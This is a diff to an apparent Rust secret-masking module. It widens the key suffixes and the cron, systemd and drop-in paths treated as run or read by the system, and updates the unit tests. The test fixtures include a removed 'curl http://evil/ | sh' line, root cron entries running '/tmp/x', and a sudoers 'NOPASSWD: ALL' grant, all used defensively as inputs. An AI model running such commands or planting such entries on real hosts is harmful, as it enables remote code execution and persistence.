@@ -7,7 +7,9 @@ const IN_KEY: [&[u8]; 9] =
     [b"TOKEN", b"SECRET", b"PASSWORD", b"PASSWD", b"PASSPHRASE", b"CREDENTIAL", b"APIKEY", b"AUTHORIZATION", b"AUTH_DATA"];
 
 /// A key that ends with one of these, in any case, has a secret value. `PWD` alone is the working directory.
-const AT_KEY_END: [&[u8]; 10] = [b"KEY", b"_DSN", b"PASS", b"_PWD", b"_COOKIE", b"AUTH", b"_PAT", b"PSK", b"AUTHTOK", b"BINDPW"];
+/// `client-key-data` of a kubeconfig is a private key in base64.
+const AT_KEY_END: [&[u8]; 11] =
+    [b"KEY", b"KEY-DATA", b"_DSN", b"PASS", b"_PWD", b"_COOKIE", b"AUTH", b"_PAT", b"PSK", b"AUTHTOK", b"BINDPW"];
 
 /// Words that a secret follows without a sign, in any case: of HTTP, nslcd.conf(5), ldap.conf(5), pam_ldap, wpa_supplicant's lines in
 /// interfaces(5), Apache and nginx.
@@ -107,16 +109,67 @@ const IN_PATH: [&[u8]; 10] = [
 ];
 
 /// Parts of paths of files that are read or run whatever they are called.
-const RUN: [&[u8]; 9] = [
+const RUN: [&[u8]; 13] = [
     b"/spool/cron/",
     b"/spool/at/",
     b"/etc/crontabs/",
     b"/etc/periodic/",
+    // Units and all that is dropped in beside them.
     b"/systemd/",
+    b"/etc/conf.d/",
     b"/etc/init/",
+    b"/etc/rc.d/",
     b"/etc/runit/",
     b"/etc/sv/",
     b"/etc/udev/",
+    b"/dispatcher.d/",
+    b"/dracut/modules.d/",
+];
+
+/// Names of folders whose files are run or read as settings, mostly whatever they are called. Others that end in `.d` are not among them: a
+/// `.htpasswd` in `/etc/nginx/conf.d` is one.
+const DROP_INS: [&[u8]; 41] = [
+    b"Xsession.d",
+    b"apt.conf.d",
+    b"bash_completion.d",
+    b"binfmt.d",
+    b"dhclient-enter-hooks.d",
+    b"dhclient-exit-hooks.d",
+    b"doas.d",
+    b"dracut.conf.d",
+    b"environment.d",
+    b"exports.d",
+    b"grub.d",
+    b"hooks.d",
+    b"if-down.d",
+    b"if-post-down.d",
+    b"if-pre-up.d",
+    b"if-up.d",
+    b"init.d",
+    b"install.d",
+    b"ip-down.d",
+    b"ip-up.d",
+    b"ld.so.conf.d",
+    b"local.d",
+    b"logrotate.d",
+    b"modprobe.d",
+    b"modules-load.d",
+    b"motd.d",
+    b"pam.d",
+    b"postinst.d",
+    b"postrm.d",
+    b"profile.d",
+    b"rsyslog.d",
+    b"rules.d",
+    b"ssh_config.d",
+    b"sshd_config.d",
+    b"sudoers.d",
+    b"sysctl.d",
+    b"sysusers.d",
+    b"tmpfiles.d",
+    b"update-motd.d",
+    b"xinetd.d",
+    b"xinitrc.d",
 ];
 
 /// Ends of names of files that hold keys and no text.
@@ -164,21 +217,28 @@ pub(in crate::source) fn is_program(beginning: &[u8]) -> bool {
 }
 
 /// Whether a file that is a secret by its name may be run or read by the system all the same: then its name must not hide it, and
-/// only what looks like a secret in its lines is hidden. A text that may be executed is run by a shell even without `#!`.
-pub(in crate::source) fn may_run(path: &[u8], mode: u32, beginning: &[u8]) -> bool {
+/// only what looks like a secret in its lines is hidden. Its mode says nothing: file systems of other hosts give every file the permission
+/// to be executed, and a password in a `.pgpass` looks like any word.
+pub(in crate::source) fn may_run(path: &[u8], beginning: &[u8]) -> bool {
     if is_program(beginning) {
         return true;
     }
     let (is_text, holds_keys) = (!beginning.contains(&0), has_ending(path));
-    let is_executable = mode & 0o111 != 0 && is_text && !holds_keys;
     // A store of keys in a folder of drop-ins has bytes of zero. A crontab may have one as well, in a comment.
     let is_run = is_run_from(path) && (is_text || !holds_keys || is_of_cron(path));
-    !is_laid_down(path) && (is_executable || is_run)
+    !is_laid_down(path) && is_run
 }
 
-/// Whether what lies there is read or run whatever it is called: files of cron, at, systemd, init and udev, and all folders of drop-ins.
+/// Whether what lies there is read or run whatever it is called: files of cron, at, systemd, init and udev, and folders of
+/// drop-ins that are known.
 pub(in crate::source) fn is_run_from(path: &[u8]) -> bool {
-    is_of_cron(path) || folder(path).ends_with(b".d") || RUN.iter().any(|part| contains(path, part))
+    is_of_cron(path) || is_of_drop_ins(folder(path)) || RUN.iter().any(|part| contains(path, part))
+}
+
+/// Whether a folder of this name holds drop-ins. `rc3.d` and `rcS.d` are those of a runlevel.
+fn is_of_drop_ins(name: &[u8]) -> bool {
+    let is_runlevel = name.len() == 5 && name.starts_with(b"rc") && name.ends_with(b".d");
+    is_runlevel || DROP_INS.contains(&name)
 }
 
 fn is_of_cron(path: &[u8]) -> bool {
@@ -268,28 +328,42 @@ mod tests {
 
     #[test]
     fn a_name_hides_nothing_that_may_run() {
-        for (path, mode, beginning) in [
-            ("/etc/cron.d/kubeconfig", 0o644, &b"* * * * * root /tmp/x\n"[..]),
-            ("/etc/cron.d/x.p12", 0o644, b"#\0\n* * * * * root /tmp/x\n"),
-            ("/l/diff/etc/cron.daily/opasswd", 0o644, b"id"),
-            ("/var/spool/cron/crontabs/opasswd", 0o600, b"@reboot id"),
-            ("/etc/sudoers.d/pap-secrets", 0o440, b"ann ALL=(ALL) NOPASSWD: ALL"),
-            ("/etc/systemd/system/opasswd", 0o644, b"[Service]"),
-            ("/tmp/.netrc", 0o755, b"curl http://evil/ | sh"),
-            ("/tmp/.netrc", 0o600, b"\x7fELF\x02"),
-            ("/run/secrets/x", 0o400, b"#!/bin/sh"),
+        for (path, beginning) in [
+            ("/etc/cron.d/kubeconfig", &b"* * * * * root /tmp/x\n"[..]),
+            ("/etc/cron.d/x.p12", b"#\0\n* * * * * root /tmp/x\n"),
+            ("/l/diff/etc/cron.daily/opasswd", b"id"),
+            ("/var/spool/cron/crontabs/opasswd", b"@reboot id"),
+            ("/etc/sudoers.d/pap-secrets", b"ann ALL=(ALL) NOPASSWD: ALL"),
+            ("/etc/profile.d/kubeconfig", b"/tmp/x &"),
+            ("/etc/rc3.d/kubeconfig", b"/tmp/x &"),
+            ("/etc/NetworkManager/dispatcher.d/pre-up.d/kubeconfig", b"/tmp/x &"),
+            ("/etc/systemd/system/opasswd", b"[Service]"),
+            ("/etc/systemd/system/a.service.d/opasswd", b"[Service]"),
+            ("/tmp/.netrc", b"\x7fELF\x02"),
+            ("/run/secrets/x", b"#!/bin/sh"),
         ] {
-            assert!(is_file(path.as_bytes()) && may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
+            assert!(is_file(path.as_bytes()) && may_run(path.as_bytes(), beginning), "{path}");
         }
-        for (path, mode, beginning) in [
-            ("/root/.netrc", 0o600, &b"machine h password p"[..]),
-            ("/tmp/.mylogin.cnf", 0o777, b"\0\0"),
-            ("/tmp/a.ppk", 0o777, b"PuTTY-User-Key-File-3: ssh-rsa"),
-            ("/etc/tls.d/a.jks", 0o777, b"\xfe\xed\xfe\xed\0"),
-            ("/run/secrets/db", 0o777, b"hunter2"),
-            ("/etc/security/opasswd", 0o600, b"ann:1000:1:$6$a$b"),
+        for (path, beginning) in [
+            ("/root/.netrc", &b"machine h password p"[..]),
+            ("/tmp/.mylogin.cnf", b"\0\0"),
+            ("/tmp/a.ppk", b"PuTTY-User-Key-File-3: ssh-rsa"),
+            ("/etc/tls.d/a.jks", b"\xfe\xed\xfe\xed\0"),
+            ("/etc/nginx/conf.d/.htpasswd", b"ann:$apr1$a$b"),
+            ("/srv/keys.d/.pgpass", b"*:*:*:*:hunter2"),
+            ("/srv/rc.d/.vault-token", b"hvs.CAES"),
+            ("/run/secrets/db", b"hunter2"),
+            ("/etc/security/opasswd", b"ann:1000:1:$6$a$b"),
         ] {
-            assert!(is_file(path.as_bytes()) && !may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
+            assert!(is_file(path.as_bytes()) && !may_run(path.as_bytes(), beginning), "{path}");
         }
+    }
+
+    #[test]
+    fn the_key_of_a_kubeconfig_is_a_secret() {
+        assert!(is_key(b"client-key-data") && !is_key(b"client-certificate-data"));
+        let mut text = b"    client-key-data: LS0tLS1CRUdJTg==\n    user: ann\n".to_vec();
+        assert!(super::super::mask(&mut text) > 0);
+        assert!(!contains(&text, b"LS0tLS1CRUdJTg") && text.ends_with(b"\n    user: ann\n"));
     }
 }
